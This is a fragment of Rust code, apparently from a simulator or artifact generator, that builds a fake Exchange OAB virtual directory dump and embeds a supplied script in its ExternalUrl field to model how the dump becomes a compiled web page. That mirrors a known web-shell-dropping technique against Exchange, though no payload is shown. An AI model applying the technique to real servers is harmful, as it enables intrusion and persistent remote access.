            ("ExtendedProtectionTokenChecking", "None".into()),
            ("ExtendedProtectionFlags", String::new()),
            ("ExtendedProtectionSPNList", String::new()),
            ("AdminDisplayVersion", format!("Version {a}.{b} (Build {c}.{r})")),
            ("Server", self.host.clone()),
            ("InternalUrl", format!("https://{}/OAB", self.internal_host)),
            ("InternalAuthenticationMethods", "WindowsIntegrated".into()),
            ("ExternalUrl", external.to_string()),
            ("ExternalAuthenticationMethods", "WindowsIntegrated".into()),
            ("AdminDisplayName", String::new()),
            ("ExchangeVersion", "0.10 (14.0.100.0)".into()),
            (
                "DistinguishedName",
                format!(
                    "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN={},CN=Microsoft Exchange,CN=Services,CN=Configuration,{}",
                    self.host,
                    netbios,
                    dc.join(",")
                ),
            ),
            ("Identity", format!("{}\\OAB (Default Web Site)", self.host)),
            ("Guid", OAB_VDIR_ID.into()),
            ("ObjectCategory", format!("{domain}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory")),
            ("ObjectClass", "top".into()),
            ("", "msExchVirtualDirectory".into()),
            ("", "msExchOABVirtualDirectory".into()),
            ("WhenChanged", us_datetime(t - 3_000)),
            ("WhenCreated", us_datetime(self.t0 - 40 * MS_PER_DAY)),
            ("WhenChangedUTC", us_datetime(t - 3_000)),
            ("WhenCreatedUTC", us_datetime(self.t0 - 40 * MS_PER_DAY)),
            ("OrganizationId", String::new()),
            ("Id", format!("{}\\OAB (Default Web Site)", self.host)),
            ("OriginatingServer", format!("DC01.{domain}")),
            ("IsValid", "True".into()),
            ("ObjectState", "Unchanged".into()),
        ];
        let mut s = String::new();
        for (k, v) in rows {
            if k.is_empty() {
                s.push_str(&format!("{:34}{v}\r\n", ""));
            } else {
                s.push_str(&format!("{k:<32}: {v}\r\n"));
            }
        }
        s.into_bytes()
    }

    /// An OAB dump with `script` in the ExternalUrl, and where the script starts and ends (the
    /// text around it becomes the literals of the compiled page).
    fn oab_dump_for_compile(&self, t: i64, script: &str) -> (Vec<u8>, (usize, usize)) {
        let dump = self.oab_dump_shell(t, &format!("http://f/{script}"));
        let start = find(&dump, script.as_bytes()).unwrap_or(0);
        (dump, (start, start + script.len()))
    }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}
